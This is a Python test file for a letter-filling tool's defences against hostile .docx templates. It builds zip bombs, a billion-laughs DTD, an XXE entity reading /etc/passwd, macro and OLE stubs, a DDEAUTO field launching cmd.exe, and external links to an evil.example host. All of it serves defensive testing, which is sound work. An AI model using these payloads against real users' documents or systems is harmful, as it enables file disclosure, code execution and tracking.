"""Hostile .docx templates (issue #19): every input is built here, none is committed.

Limits: a bomb, a DTD, deep nesting, too many parts or elements, a lying or encrypted zip, a FIFO
give one clear finding and write nothing. Cleaning: macros, outside links and personal properties
never reach the letter, and a finding says what was removed.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import struct
import zipfile
from dataclasses import replace
from pathlib import Path

import docx
import pytest

from assistant.core.findings import Finding
from assistant.core.letter import LetterInput, LetterResult, Party, fill_letter
from assistant.core.letter.document import MAX_UNKNOWN_LISTED
from assistant.core.letter.package import LIMITS

TODAY = dt.date(2026, 11, 22)
OWNER = "深圳市云天科技有限公司"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS = "http://schemas.microsoft.com/office/2006/relationships/"
NS = (
    f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"'
)


def letter(count: int = 3) -> LetterInput:
    return LetterInput(
        provider="tencent",
        signature_names=tuple(f"云天{i:03d}" for i in range(1, count + 1)),
        owner=Party(OWNER, "91440300MA5F8K2L2L", "李明"),
        applicant=Party("杭州星河网络服务有限公司", "91330106MA2H7Q4N98"),
        valid_from="2026-11-22",
        valid_until="2027-11-21",
        language="zh",
    )


# ------------------------------------------------------------------------------ building inputs
def base_docx() -> bytes:
    doc = docx.Document()
    doc.add_paragraph("授权方：{{owner_name}}")
    doc.add_paragraph("签名：{{signature_names}}  有效期：{{validity}}")
    doc.add_paragraph("统一社会信用代码：{{owner_credit_code}} 被授权方：{{applicant_name}}")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def zip_of(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, blob in parts.items():
            z.writestr(name, blob)
    return out.getvalue()


def body(inner: str, prolog: str = "") -> bytes:
    """A document.xml whose body is ``inner`` (and a section)."""
    return (f"{prolog}<w:document {NS}><w:body>{inner}<w:sectPr/></w:body></w:document>").encode()


def with_part(name: str, blob: bytes, data: bytes | None = None) -> bytes:
    parts = parts_of(data or base_docx())
    parts[name] = blob
    return zip_of(parts)


def add_rels(parts: dict[str, bytes], rels: str, *rows: str) -> None:
    """Add ``<Relationship>`` rows to the .rels part ``rels`` (created when missing)."""
    text = parts.get(rels, f'<Relationships xmlns="{PR_NS}"></Relationships>'.encode()).decode()
    parts[rels] = text.replace("</Relationships>", "".join(rows) + "</Relationships>").encode()


def add_types(parts: dict[str, bytes], *rows: str) -> None:
    text = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = text.replace("</Types>", "".join(rows) + "</Types>").encode()


def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def append_to_body(parts: dict[str, bytes], xml: str) -> None:
    doc = parts["word/document.xml"].decode()
    doc = doc.replace("<w:sectPr", xml + "<w:sectPr", 1)
    for prefix, uri in (
        ("v", "urn:schemas-microsoft-com:vml"),
        ("o", "urn:schemas-microsoft-com:office:office"),
    ):
        if f"xmlns:{prefix}=" not in doc:
            doc = doc.replace("<w:document ", f'<w:document xmlns:{prefix}="{uri}" ', 1)
    parts["word/document.xml"] = doc.encode()


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def fill(template: Path, tmp_path: Path, count: int = 3) -> tuple[LetterResult, Path]:
    out = tmp_path / "out" / "letter.docx"
    out.parent.mkdir(exist_ok=True)
    return fill_letter(letter(count), out, template, lang="en", today=TODAY, check=False), out


def cleaned(tmp_path: Path, name: str, data: bytes, code: str) -> tuple[Finding, Path]:
    """Fill with the template ``data``: the letter is written, with the finding ``code``."""
    result, out = fill(write(tmp_path, name, data), tmp_path)
    assert result.output == out
    return next(f for f in result.findings if f.code == code), out


def refused(template: Path, tmp_path: Path, reason: str, count: int = 3) -> str:
    """Fill with ``template``: it must be refused with ``letter.template_unsafe`` naming
    ``reason`` (a fragment of the English message), and nothing may be left in the output folder."""
    result, out = fill(template, tmp_path, count)
    unsafe = [f for f in result.findings if f.code == "letter.template_unsafe"]
    assert unsafe, [f.code for f in result.findings]
    assert reason in unsafe[0].message, unsafe[0].message
    assert unsafe[0].fix
    assert result.output is None
    assert list(out.parent.iterdir()) == [], "nothing is left behind"
    return unsafe[0].message


# ------------------------------------------------------------------------------ limits
def test_a_zip_bomb_of_300_mb_in_460_kb_is_refused_without_unpacking(tmp_path: Path) -> None:
    """The issue's 496 KB template that took >= 11 GB: 300 MB of empty paragraphs."""
    out = io.BytesIO()
    parts = parts_of(base_docx())
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, blob in parts.items():
            if name != "word/document.xml":
                z.writestr(name, blob)
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as fh:
            fh.write(f"<w:document {NS}><w:body>".encode())
            chunk = b"<w:p/>" * (1 << 18)
            for _ in range(200):
                fh.write(chunk)
            fh.write(b"</w:body></w:document>")
    data = out.getvalue()
    assert len(data) < 600_000
    message = refused(write(tmp_path, "bomb.docx", data), tmp_path, "unpacked it would take more")
    assert "at least 300." in message


def test_one_highly_compressed_part_is_a_zip_bomb(tmp_path: Path) -> None:
    data = with_part("word/document.xml", body("<w:p/>" * 400_000))
    refused(write(tmp_path, "ratio.docx", data), tmp_path, "times its packed size (a zip bomb)")


def test_a_file_over_the_size_limit_is_not_read(tmp_path: Path) -> None:
    parts = parts_of(base_docx())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, blob in parts.items():
            z.writestr(name, blob)
        z.writestr("word/media/big.bin", os.urandom(LIMITS.file_bytes), zipfile.ZIP_STORED)
    message = refused(write(tmp_path, "big.docx", out.getvalue()), tmp_path, "the file is")
    assert "more than 20.0 MB" in message


def test_too_many_parts(tmp_path: Path) -> None:
    parts = parts_of(base_docx())
    parts.update({f"customXml/item{i}.xml": b"<a/>" for i in range(10, LIMITS.parts + 10)})
    refused(write(tmp_path, "parts.docx", zip_of(parts)), tmp_path, "parts, more than 1000")


def test_the_same_part_twice_is_refused(tmp_path: Path) -> None:
    """Which of two word/document.xml would Word show? The check and the fill could differ."""
    parts = parts_of(base_docx())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, blob in parts.items():
            z.writestr(name, blob)
        z.writestr("Word/Document.xml", body("<w:p><w:r><w:t>other</w:t></w:r></w:p>"))
    refused(write(tmp_path, "twice.docx", out.getvalue()), tmp_path, "is in it twice")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_billion_laughs_dtd_is_refused(tmp_path: Path, encoding: str) -> None:
    entities = '<!ENTITY lol "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    prolog = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE w:document [{entities}]>'
    xml = body("<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", prolog).decode().encode(encoding)
    data = with_part("word/document.xml", xml)
    refused(write(tmp_path, "laughs.docx", data), tmp_path, "declares a DTD or entities")


def test_an_external_entity_in_the_content_types_is_refused(tmp_path: Path) -> None:
    """XXE: an entity reading a local file into the letter."""
    types = parts_of(base_docx())["[Content_Types].xml"].decode()
    types = types.replace(
        "<Types ", '<!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]><Types ', 1
    )
    data = with_part("[Content_Types].xml", types.encode())
    refused(write(tmp_path, "xxe.docx", data), tmp_path, "declares a DTD or entities")


def test_elements_nested_deeper_than_the_limit(tmp_path: Path) -> None:
    depth = LIMITS.xml_depth + 50  # under libxml2's own 256
    inner = "<w:sdt><w:sdtContent>" * depth + "<w:p/>" + "</w:sdtContent></w:sdt>" * depth
    data = with_part("word/document.xml", body(inner))
    refused(write(tmp_path, "deep.docx", data), tmp_path, "more than 128 deep")


def test_too_many_elements(tmp_path: Path) -> None:
    n = LIMITS.xml_elements // 3 + 10
    inner = "".join(f"<w:p><w:r><w:t>{i}</w:t></w:r></w:p>" for i in range(n))
    data = with_part("word/document.xml", body(inner))
    refused(write(tmp_path, "many.docx", data), tmp_path, "more than 250000 XML elements")


def test_a_signature_row_of_20000_paragraphs_is_not_repeated_100_times(tmp_path: Path) -> None:
    row = (
        "<w:tr><w:tc><w:p><w:r><w:t>{{signature_name}}</w:t></w:r></w:p>"
        + "".join(f"<w:p><w:r><w:t>{i}</w:t></w:r></w:p>" for i in range(20_000))
        + "</w:tc></w:tr>"
    )
    data = with_part("word/document.xml", body(f"<w:tbl>{row}</w:tbl>"))
    refused(write(tmp_path, "rows.docx", data), tmp_path, "repeating its signature rows", 100)


def test_a_zip_that_lies_about_a_size_is_unreadable(tmp_path: Path) -> None:
    data = bytearray(base_docx())
    # the central directory entry of word/document.xml: declared size 100 bytes
    at = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02"))
    while at >= 0:
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + name_len] == b"word/document.xml":
            struct.pack_into("<I", data, at + 24, 100)
        at = data.find(b"PK\x01\x02", at + 4)
    result, out = fill(write(tmp_path, "lies.docx", bytes(data)), tmp_path)
    assert [f.code for f in result.findings if f.severity.value == "error"] == [
        "letter.template_unreadable"
    ]
    assert not out.exists()


def test_an_encrypted_entry_is_refused(tmp_path: Path) -> None:
    data = bytearray(base_docx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:  # the "encrypted" flag of every central directory entry
        struct.pack_into("<H", data, at + 8, struct.unpack_from("<H", data, at + 8)[0] | 1)
        at = data.find(b"PK\x01\x02", at + 4)
    refused(write(tmp_path, "enc.docx", bytes(data)), tmp_path, "is encrypted")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_as_template_does_not_hang(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo.docx"
    os.mkfifo(fifo)
    result, _ = fill(fifo, tmp_path)
    assert "letter.template_unreadable" in {f.code for f in result.findings}


# ------------------------------------------------------------------------------ slow, not refused
def test_60000_placeholders_in_one_paragraph_are_filled(tmp_path: Path) -> None:
    """The issue's 40 KB template that took > 120 s: splicing was quadratic in the runs."""
    runs = "".join(f"<w:r><w:t>{{{{owner_name}}}}{i} </w:t></w:r>" for i in range(60_000))
    data = with_part("word/document.xml", body(f"<w:p>{runs}</w:p>"))
    result, out = fill(write(tmp_path, "runs.docx", data), tmp_path)
    assert result.output == out
    text = docx.Document(str(out)).paragraphs[0].text
    assert text.startswith(f"{OWNER}0 {OWNER}1 ") and text.endswith(f"{OWNER}59999 ")


def test_thousands_of_unknown_placeholders_give_a_bounded_list(tmp_path: Path) -> None:
    runs = "".join(f"<w:r><w:t>{{{{x{i}}}}}</w:t></w:r>" for i in range(5000))
    data = with_part("word/document.xml", body(f"<w:p>{runs}</w:p>"))
    result, _ = fill(write(tmp_path, "unknown.docx", data), tmp_path)
    codes = [f.code for f in result.findings]
    assert codes.count("letter.placeholder_unknown") == MAX_UNKNOWN_LISTED
    more = next(f for f in result.findings if f.code == "letter.placeholders_unknown_more")
    assert str(5000 - MAX_UNKNOWN_LISTED) in more.message


def test_tables_nested_40_deep_with_labels_fill_in_one_pass(tmp_path: Path) -> None:
    level = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>授权方</w:t></w:r></w:p></w:tc><w:tc>"
    inner = "".join(f"<w:p><w:r><w:t>{i}</w:t></w:r></w:p>" for i in range(20_000))
    xml = level * 40 + inner + "</w:tc></w:tr></w:tbl><w:p/>" * 40
    data = with_part("word/document.xml", body(xml))
    result, out = fill(write(tmp_path, "nested.docx", data), tmp_path)
    assert result.output == out


# ------------------------------------------------------------------------------ cleaning
def macro_template() -> bytes:
    parts = parts_of(base_docx())
    doc_ct = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(doc_ct, "application/vnd.ms-word.document.macroEnabled.main+xml")
    )
    parts["[Content_Types].xml"] = types.encode()
    add_types(
        parts,
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
        '<Override PartName="/word/activeX/activeX1.xml" '
        'ContentType="application/vnd.ms-office.activeX+xml"/>',
        '<Override PartName="/word/embeddings/oleObject1.bin" '
        'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0Attribute VB_Name AutoOpen Shell calc.exe"
    parts["word/vbaData.xml"] = (
        b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    )
    add_rels(
        parts, "word/_rels/vbaProject.bin.rels", rel("rId1", MS + "wordVbaData", "vbaData.xml")
    )
    parts["word/activeX/activeX1.xml"] = (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    )
    parts["word/activeX/activeX1.bin"] = b"control"
    add_rels(
        parts,
        "word/activeX/_rels/activeX1.xml.rels",
        rel("rId1", MS + "activeXControlBinary", "activeX1.bin"),
    )
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0Package payload.exe"
    add_rels(
        parts,
        "word/_rels/document.xml.rels",
        rel("rIdVba", MS + "vbaProject", "vbaProject.bin"),
        rel("rIdAx", OD + "control", "activeX/activeX1.xml"),
        rel("rIdOle", OD + "oleObject", "embeddings/oleObject1.bin"),
    )
    append_to_body(
        parts,
        '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CommandButton1"/></w:object></w:r>'
        '<w:r><w:object><v:shape id="s1"/><o:OLEObject Type="Embed" ProgID="Package" '
        'ShapeID="s1" r:id="rIdOle"/></w:object></w:r></w:p>',
    )
    return zip_of(parts)


def test_macros_controls_and_embedded_programs_are_removed(tmp_path: Path) -> None:
    found, out = cleaned(tmp_path, "m.docm", macro_template(), "letter.template_active_removed")
    assert found.severity.value == "warning"
    assert "word/vbaProject.bin" in found.message and ".docm" in found.message
    written = parts_of(out.read_bytes())
    assert not [n for n in written if re.search(r"vba|activeX|oleObject|embeddings", n)], list(
        written
    )
    types = written["[Content_Types].xml"].decode()
    assert "macroEnabled" not in types and "vbaProject" not in types and "activeX" not in types
    document = written["word/document.xml"].decode()
    assert "w:control" not in document and "OLEObject" not in document
    assert "vbaProject" not in written["word/_rels/document.xml.rels"].decode()
    assert OWNER in docx.Document(str(out)).paragraphs[0].text  # and it is a .docx again


def linking_template() -> bytes:
    parts = parts_of(base_docx())
    add_rels(
        parts,
        "word/_rels/settings.xml.rels",
        rel("rIdT", OD + "attachedTemplate", "http://evil.example/t.dotm", external=True),
        rel("rIdDS", OD + "mailMergeSource", "file:///C:/data/clients.xlsx", external=True),
    )
    settings = parts["word/settings.xml"].decode()
    settings = settings.replace(
        "</w:settings>",
        '<w:attachedTemplate r:id="rIdT"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:dataType w:val="native"/><w:query w:val="SELECT * FROM clients"/>'
        '<w:dataSource r:id="rIdDS"/></w:mailMerge></w:settings>',
    )
    parts["word/settings.xml"] = settings.encode()
    add_rels(
        parts,
        "word/_rels/document.xml.rels",
        rel("rIdImg", OD + "image", "http://evil.example/pixel.png", external=True),
        rel("rIdLnk", OD + "oleObject", "file://evil.example/share/x.xlsx", external=True),
        rel("rIdH", OD + "hyperlink", "https://cloud.tencent.com/", external=True),
    )
    append_to_body(
        parts,
        '<w:p><w:r><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rIdImg"/>'
        "</v:shape></w:pict></w:r>"
        '<w:r><w:object><v:shape id="s2"/><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
        'ShapeID="s2" r:id="rIdLnk" UpdateMode="Always"/></w:object></w:r>'
        '<w:hyperlink r:id="rIdH"><w:r><w:t>腾讯云官网</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        ' INCLUDEPICTURE "http://evil.example/track.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>[图]</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
        "<w:r><w:t>!</w:t></w:r></w:fldSimple>"
        '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    )
    return zip_of(parts)


def test_links_to_outside_content_are_removed(tmp_path: Path) -> None:
    found, out = cleaned(tmp_path, "l.docx", linking_template(), "letter.template_links_removed")
    for what in ("http://evil.example/t.dotm", "pixel.png", "x.xlsx", "cloud.tencent.com"):
        assert what in found.message, found.message
    assert "and 3 more" in found.message  # mailMerge source, INCLUDEPICTURE, DDEAUTO
    written = parts_of(out.read_bytes())
    for name, blob in written.items():
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in blob, name
    settings = written["word/settings.xml"].decode()
    assert "attachedTemplate" not in settings and "mailMerge" not in settings
    document = written["word/document.xml"].decode()
    for gone in ("INCLUDEPICTURE", "DDEAUTO", "OLEObject", "rIdImg", "w:hyperlink"):
        assert gone not in document, gone
    assert 'w:instr=" PAGE "' in document  # a harmless field stays
    texts = [p.text for p in docx.Document(str(out)).paragraphs]
    assert "腾讯云官网" in texts[-2] and texts[-1].startswith("[图]!")  # shown text stays


def personal_template() -> bytes:
    doc = docx.Document()
    doc.add_paragraph("授权方：{{owner_name}}")
    props = doc.core_properties
    props.author, props.last_modified_by = "张三", "李四"
    props.last_printed = dt.datetime(2025, 3, 1, 9, 30)
    raw = io.BytesIO()
    doc.save(raw)
    parts = parts_of(raw.getvalue())
    app = parts["docProps/app.xml"].decode()
    app = app.replace("<Company/>", "<Company>某某咨询有限公司</Company>")
    app = app.replace("<Manager/>", "<Manager>王五</Manager>")
    app = app.replace(
        "<Template>Normal.dotm</Template>",
        r"<Template>C:\Users\zhangsan\Templates\客户模板.dotm</Template>",
    )
    parts["docProps/app.xml"] = app.encode()
    parts["docProps/custom.xml"] = (
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
        b' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="MSIP_Label_Owner">'
        b"<vt:lpwstr>zhangsan@example.com</vt:lpwstr></property></Properties>"
    )
    add_types(
        parts,
        '<Override PartName="/docProps/custom.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>',
    )
    add_rels(parts, "_rels/.rels", rel("rIdC", OD + "custom-properties", "docProps/custom.xml"))
    return zip_of(parts)


def test_personal_properties_are_not_copied(tmp_path: Path) -> None:
    found, out = cleaned(
        tmp_path, "p.docx", personal_template(), "letter.template_personal_removed"
    )
    assert found.severity.value == "info"
    assert "author: 张三" in found.message and "last modified by: 李四" in found.message
    written = parts_of(out.read_bytes())
    assert "docProps/custom.xml" not in written and "docProps/thumbnail.jpeg" not in written
    everything = b"".join(written.values()).decode("utf-8", "replace")
    for secret in ("张三", "李四", "王五", "某某咨询", "zhangsan", "2025-03-01", "thumbnail"):
        assert secret not in everything, secret
    props = docx.Document(str(out)).core_properties
    assert props.author == "" and props.last_modified_by == ""


def test_a_dotx_template_is_filled_as_a_docx(tmp_path: Path) -> None:
    parts = parts_of(base_docx())
    types = (
        parts["[Content_Types].xml"]
        .decode()
        .replace("wordprocessingml.document.main+xml", "wordprocessingml.template.main+xml")
    )
    parts["[Content_Types].xml"] = types.encode()
    result, out = fill(write(tmp_path, "t.dotx", zip_of(parts)), tmp_path)
    assert result.output == out
    assert OWNER in docx.Document(str(out)).paragraphs[0].text
    removed = {"letter.template_active_removed", "letter.template_links_removed"}
    assert not [f for f in result.findings if f.code in removed]


def test_our_templates_and_letters_carry_nothing_to_remove(tmp_path: Path) -> None:
    out = tmp_path / "ours.docx"
    result = fill_letter(letter(), out, lang="en", today=TODAY, check=False)
    assert not [f for f in result.findings if f.code.startswith("letter.template_")]
    written = parts_of(out.read_bytes())
    assert "docProps/thumbnail.jpeg" not in written
    assert b"creator" not in written["docProps/core.xml"]
    again = tmp_path / "again.docx"
    fill_letter(replace(letter()), again, lang="en", today=TODAY, check=False)
    assert again.read_bytes() == out.read_bytes()  # the same case gives the same bytes


def test_a_cleaned_letter_is_cleaned_again_to_the_same_bytes(tmp_path: Path) -> None:
    """Filling a letter we wrote (as a user's template) removes nothing more."""
    first, out = fill(write(tmp_path, "links.docx", linking_template()), tmp_path)
    second_out = tmp_path / "second.docx"
    second = fill_letter(letter(), second_out, out, lang="en", today=TODAY, check=False)
    assert not [f for f in second.findings if f.code.startswith("letter.template_")]
    assert first.output is not None
